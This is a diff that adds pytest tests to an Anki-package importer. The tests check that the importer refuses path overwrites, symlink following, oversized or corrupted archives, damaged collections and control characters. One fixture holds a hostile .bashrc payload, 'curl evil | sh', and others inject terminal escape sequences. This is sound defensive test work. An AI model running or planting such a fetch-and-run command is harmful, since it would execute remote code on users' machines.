@@ -21,8 +21,8 @@ from srcquiz.anki.importer import (
     deck_yaml,
     html_to_text,
     import_package,
-    unsafe_media_name,
 )
+from srcquiz.anki.package import unsafe_media_name
 from srcquiz.cli.parser import main
 from srcquiz.deck.loader import load_deck, load_deck_file, load_decks, parse_deck
 from srcquiz.deck.model import Card, Choice, Cloze, Short
@@ -427,3 +427,306 @@ def test_anki_cloze_reads_as_a_deck_cloze():
     text = anki_cloze_to_text("<b>{{c2::x}}</b> and {{c1::y}}")
     assert text == "{{c2::x}} and {{c1::y}}"
     assert re.findall(r"c(\d)", text) == ["2", "1"]
+
+
+# -- the output folder: only declared files, nothing replaced unasked (#20) ------------
+
+
+def kinds_package(tmp_path: Path, name: str = "p.apkg", **changes) -> Path:
+    """The anki_kinds deck as a package, its collection and media changed as asked."""
+    base = tmp_path / "kinds.apkg"
+    if not base.exists():
+        export_decks([load_deck(KINDS)], base)
+    return rewrite_package(base, tmp_path / name, **changes)
+
+
+def patch_central_directory(apkg: Path, member: str, offset: int, value: int) -> None:
+    """Overwrite a 4-byte field of `member`'s central directory entry: 16 is its
+    CRC-32, 24 the uncompressed size it declares."""
+    data = bytearray(apkg.read_bytes())
+    name = member.encode()
+    pos = data.find(b"PK\x01\x02")
+    while pos != -1:
+        length = int.from_bytes(data[pos + 28 : pos + 30], "little")
+        if data[pos + 46 : pos + 46 + length] == name:
+            data[pos + offset : pos + offset + 4] = value.to_bytes(4, "little")
+            apkg.write_bytes(data)
+            return
+        pos = data.find(b"PK\x01\x02", pos + 4)
+    raise AssertionError(f"{member} is not in {apkg}")
+
+
+def folder_state(folder: Path) -> dict[str, bytes]:
+    return {
+        str(p.relative_to(folder)): p.read_bytes() if p.is_file() else b"<dir>"
+        for p in sorted(folder.rglob("*"))
+    }
+
+
+def test_media_list_cannot_replace_dotfiles_progress_or_the_imported_deck(tmp_path):
+    media = {
+        ".bashrc": b"curl evil | sh",
+        "progress.sqlite3": b"not a database",
+        "anki-kinds.yaml": b"title: replaced\n",
+        "deck.schema.json": b"{}",
+        ".hidden.png": b"\x89PNG hidden",
+        "diagram.png": b"\x89PNG diagram",
+    }
+    package = kinds_package(tmp_path, media=media)
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / ".bashrc").write_text("alias ll='ls -l'\n")
+    (out / "progress.sqlite3").write_bytes(b"my study history")
+
+    result = import_package(package, out)
+
+    assert (out / ".bashrc").read_text() == "alias ll='ls -l'\n"
+    assert (out / "progress.sqlite3").read_bytes() == b"my study history"
+    assert len(load_deck(out / "anki-kinds.yaml").questions) == 11
+    assert json.loads((out / "deck.schema.json").read_text())["type"] == "object"
+    assert (out / "diagram.png").read_bytes() == b"\x89PNG diagram"
+    assert not (out / ".hidden.png").exists()
+    assert result.media == 1
+    assert len(result.warnings) == 1 and result.warnings[0].startswith(
+        'left out 5 file(s) of the package\'s media that are not images, audio or video, '
+        'or are hidden: ".bashrc", "progress.sqlite3"'
+    )
+    assert sorted(p.name for p in out.iterdir()) == [
+        ".bashrc",
+        "anki-kinds.yaml",
+        "deck.schema.json",
+        "diagram.png",
+        "progress.sqlite3",
+    ]
+
+
+def test_existing_files_are_replaced_only_with_overwrite(tmp_path, capsys):
+    out = tmp_path / "out"
+    first = kinds_package(tmp_path, "first.apkg", media={"a.png": b"A"})
+    assert main(["import", str(first), "-o", str(out)]) == 0
+    # The same package again changes nothing, so it needs no flag.
+    assert main(["import", str(first), "-o", str(out)]) == 0
+    capsys.readouterr()
+
+    deck = out / "anki-kinds.yaml"
+    deck.write_text(deck.read_text().replace("Anki export, every kind", "My own title"))
+    second = kinds_package(tmp_path, "second.apkg", media={"a.png": b"A2", "b.png": b"B"})
+    before = folder_state(out)
+    assert main(["import", str(second), "-o", str(out)]) == 1
+    err = capsys.readouterr().err
+    assert err == (
+        f"srcquiz: {out} already holds anki-kinds.yaml, a.png; give --overwrite to "
+        "replace them. Nothing was written.\n"
+    )
+    assert folder_state(out) == before  # b.png, new and harmless, was not written either
+
+    assert main(["import", str(second), "-o", str(out), "--overwrite"]) == 0
+    assert "My own title" not in deck.read_text()
+    assert (out / "a.png").read_bytes() == b"A2" and (out / "b.png").read_bytes() == b"B"
+    assert [p.name for p in out.iterdir() if p.name.startswith(".")] == []
+
+
+def test_a_link_in_the_folder_is_replaced_not_followed(tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "pic.png").symlink_to(victim)
+    package = kinds_package(tmp_path, media={"pic.png": b"\x89PNG"})
+    with pytest.raises(UserError, match=r"already holds pic\.png; give --overwrite"):
+        import_package(package, out)
+    assert (out / "pic.png").is_symlink() and not (out / "anki-kinds.yaml").exists()
+
+    import_package(package, out, overwrite=True)
+    assert victim.read_text() == "keep me"
+    assert not (out / "pic.png").is_symlink()
+    assert (out / "pic.png").read_bytes() == b"\x89PNG"
+
+
+def test_a_package_damaged_half_way_writes_nothing(tmp_path):
+    package = kinds_package(tmp_path, media={"a.png": b"A" * 1000, "b.png": b"B" * 1000})
+    patch_central_directory(package, "1", 16, 0)  # b.png's checksum no longer matches
+    out = tmp_path / "out"
+    with pytest.raises(UserError, match=r'media file "b\.png" is damaged inside the archive'):
+        import_package(package, out)
+    assert not out.exists()
+
+
+# -- sizes: caps on what a package declares and holds (#20) ---------------------------
+
+
+@pytest.mark.parametrize(
+    ("member", "declared", "message"),
+    [
+        ("collection.anki2", 600 * 2**20, "its Anki collection is 600.0 MiB, more than the 512.0"),
+        ("0", 300 * 2**20, 'media file "a.png" is 300.0 MiB, more than the 256.0 MiB'),
+        ("media", 100 * 2**20, "its media list is 100.0 MiB, more than the 64.0 MiB"),
+    ],
+)
+def test_members_declaring_too_much_are_refused_before_reading(
+    tmp_path, member, declared, message
+):
+    package = kinds_package(tmp_path, media={"a.png": b"\x89PNG"})
+    patch_central_directory(package, member, 24, declared)
+    out = tmp_path / "out"
+    with pytest.raises(UserError, match=re.escape(message)):
+        import_package(package, out)
+    assert not out.exists()
+
+
+def test_media_adding_up_to_too_much_are_refused(tmp_path):
+    names = [f"{i}.png" for i in range(5)]
+    package = kinds_package(tmp_path, media={n: b"x" for n in names})
+    for i in range(5):
+        patch_central_directory(package, str(i), 24, 250 * 2**20)
+    with pytest.raises(UserError, match=r"its media files come to 1250\.0 MiB, more than"):
+        import_package(package, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_member_holding_more_than_it_declares_is_refused(tmp_path):
+    package = kinds_package(tmp_path, media={"big.png": b"\x89PNG" + b"\x00" * 2**20})
+    patch_central_directory(package, "0", 24, 16)
+    with pytest.raises(UserError, match=r'media file "big\.png" is damaged inside the archive'):
+        import_package(package, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+# -- damaged collections: one sentence, never a traceback (#20) ------------------------
+
+_DEEP = "printf('%.*c', 100000, '[')"
+
+
+@pytest.mark.parametrize(
+    ("sql", "message"),
+    [
+        ("UPDATE col SET models = '[1]'", "its note types are not a JSON object"),
+        ("UPDATE col SET models = '{\"1\": 5}'", 'its note types hold "1", which is not a JSON'),
+        ("UPDATE col SET models = '{\"x\": {}}'", 'the id "x", which is not a number'),
+        ("UPDATE col SET models = json_set(models, '$.1721004101.flds', json('[1, 2]'))",
+         "a field of note type 1721004101 is not a JSON object"),
+        ("UPDATE col SET models = json_set(models, '$.1721004101.flds[0].name', 7)",
+         "a field of note type 1721004101 has a `name` that is not text"),
+        ("UPDATE col SET models = json_set(models, '$.1721004101.tmpls', 'abc')",
+         "note type 1721004101 has a `tmpls` that is not a list"),
+        ("UPDATE col SET decks = json_set(decks, '$.1', 'x')", 'its decks hold "1", which is'),
+        ("UPDATE col SET decks = json_set(decks, '$.1.name', json('[1]'))",
+         "deck 1 has a `name` that is not text"),
+        ("UPDATE col SET decks = json_set(decks, '$.1.desc', 3)",
+         "deck 1 has a `desc` that is not text"),
+        ("UPDATE col SET decks = " + _DEEP, "its decks are not JSON"),
+        ("UPDATE notes SET flds = X'00'", "has fields or tags that are not text"),
+        ("UPDATE notes SET tags = X'00'", "has fields or tags that are not text"),
+        ("UPDATE cards SET did = 'x'", "has a deck id that is not a number"),
+        ("DELETE FROM col", "it has no collection row"),
+    ],
+)
+def test_damaged_collections_are_refused_in_one_sentence(tmp_path, sql, message):
+    package = kinds_package(tmp_path, sql=sql)
+    with pytest.raises(UserError, match=r"^\S+p\.apkg: the Anki collection inside is damaged"):
+        try:
+            import_package(package, tmp_path / "out")
+        except UserError as exc:
+            assert message in str(exc) and "\n" not in str(exc)
+            raise
+    assert not (tmp_path / "out").exists()
+
+
+def test_an_empty_collection_is_refused_in_one_sentence(tmp_path, capsys):
+    package = tmp_path / "empty.apkg"
+    with zipfile.ZipFile(package, "w") as z:
+        z.writestr("collection.anki2", b"")
+    assert main(["import", str(package), "-o", str(tmp_path / "out")]) == 1
+    assert capsys.readouterr().err == (
+        f"srcquiz: {package}: its Anki collection is empty; the package cannot be imported.\n"
+    )
+
+
+def test_deeply_nested_json_in_a_note_or_deck_settings_is_damaged_data(tmp_path):
+    sql = (
+        f"UPDATE notes SET flds = replace(flds, '{{\"v\":1', {_DEEP} || '{{\"v\":1') "
+        "WHERE flds LIKE 'What does%';"
+        f"UPDATE col SET decks = replace(decks, '<!--srcquiz-deck ', '<!--srcquiz-deck ' || "
+        f"{_DEEP});"
+    )
+    result = import_package(kinds_package(tmp_path, sql=sql), tmp_path / "out")
+    assert result.warnings == [
+        "1 srcquiz note(s) had damaged data in their Srcquiz field and were skipped"
+    ]
+    deck = load_deck(tmp_path / "out" / "anki-kinds.yaml")
+    assert len(deck.questions) == 10 and deck.title == "Anki export, every kind"
+
+
+def test_deck_settings_of_the_wrong_type_are_left_out(tmp_path):
+    sql = (
+        "UPDATE col SET decks = replace(decks, '\\\"tags\\\":[\\\"anki-test\\\",\\\"c++\\\"]', "
+        "'\\\"tags\\\":5');"
+    )
+    result = import_package(kinds_package(tmp_path, sql=sql), tmp_path / "out")
+    deck = load_deck(tmp_path / "out" / "anki-kinds.yaml")
+    assert not result.warnings and deck.tags == () and deck.title == "Anki export, every kind"
+
+
+def test_long_deck_names_and_ids(tmp_path):
+    # Anki's nested deck names can be long: the file name is cut, the deck imports.
+    long_name = "Languages::" + "Very long deck name " * 15
+    sql = (
+        "UPDATE col SET models = replace(models, '\"Srcquiz\"', '\"Data\"');"
+        f"UPDATE col SET decks = json_set(decks, '$.1792872879114.name', '{long_name}');"
+    )
+    result = import_package(kinds_package(tmp_path, "names.apkg", sql=sql), tmp_path / "a")
+    ((path, count),) = result.decks
+    assert path.stem.startswith("languages-very-long-deck-name-") and len(path.stem) <= 100
+    assert count == 11
+    assert load_deck(path).sources == (long_name,)
+
+    # A srcquiz deck id is kept exact, so one longer than a file name allows refuses.
+    deck_id = "a" * 300
+    sql = (
+        "UPDATE notes SET flds = "
+        f"replace(flds, '\"deck\":\"anki-kinds\"', '\"deck\":\"{deck_id}\"')"
+    )
+    with pytest.raises(UserError, match=r"deck id `a{40}…` is 300 characters long"):
+        import_package(kinds_package(tmp_path, "ids.apkg", sql=sql), tmp_path / "b")
+    assert not (tmp_path / "b").exists()
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        # A control character typed into a field in Anki ...
+        "UPDATE notes SET flds = replace(flds, 'What does', 'What' || char(7) || ' does') "
+        "WHERE flds LIKE 'What does%'",
+        # ... or escaped in the JSON of srcquiz's own data.
+        "UPDATE notes SET flds = replace(flds, '\"What does', '\"What\\u001b[2J does') "
+        "WHERE flds LIKE 'What does%'",
+    ],
+)
+def test_notes_with_control_characters_are_skipped_with_a_warning(tmp_path, sql):
+    package = kinds_package(tmp_path, sql=sql)
+    with sqlite3.connect(":memory:") as conn, zipfile.ZipFile(package) as z:
+        conn.deserialize(z.read("collection.anki2"))
+        (nid,) = conn.execute("SELECT id FROM notes WHERE flds LIKE 'What%'").fetchone()
+    result = import_package(package, tmp_path / "out")
+    (warning,) = result.warnings
+    assert warning.startswith(f"note {nid} ") and "and was skipped" in warning
+    assert re.search(r"control character U\+00(07|1B)", warning)
+    deck = load_deck(tmp_path / "out" / "anki-kinds.yaml")
+    assert "card-plain" not in {q.id for q in deck.questions} and len(deck.questions) == 10
+
+
+def test_control_characters_in_deck_and_note_type_names_are_not_passed_on(tmp_path):
+    sql = (
+        "UPDATE col SET models = replace(models, '\"Srcquiz\"', '\"Data\"');"
+        "UPDATE col SET models = json_set(models, '$.1721004101.name', "
+        "'Evil' || char(27) || '[2J');"
+        "UPDATE col SET decks = json_set(decks, '$.1792872879114.name', "
+        "'srcquiz::Bell' || char(7));"
+    )
+    result = import_package(kinds_package(tmp_path, sql=sql), tmp_path / "out")
+    assert "note type `note type 1721004101` is not one srcquiz knows" in result.warnings[0]
+    assert not any(re.search(r"[\x00-\x08\x0b-\x1f\x7f]", w) for w in result.warnings)
+    ((path, _),) = result.decks
+    deck = load_deck(path)
+    assert path.name == "deck-1792872879114.yaml"
+    assert (deck.title, deck.sources) == ("deck 1792872879114", ("deck 1792872879114",))
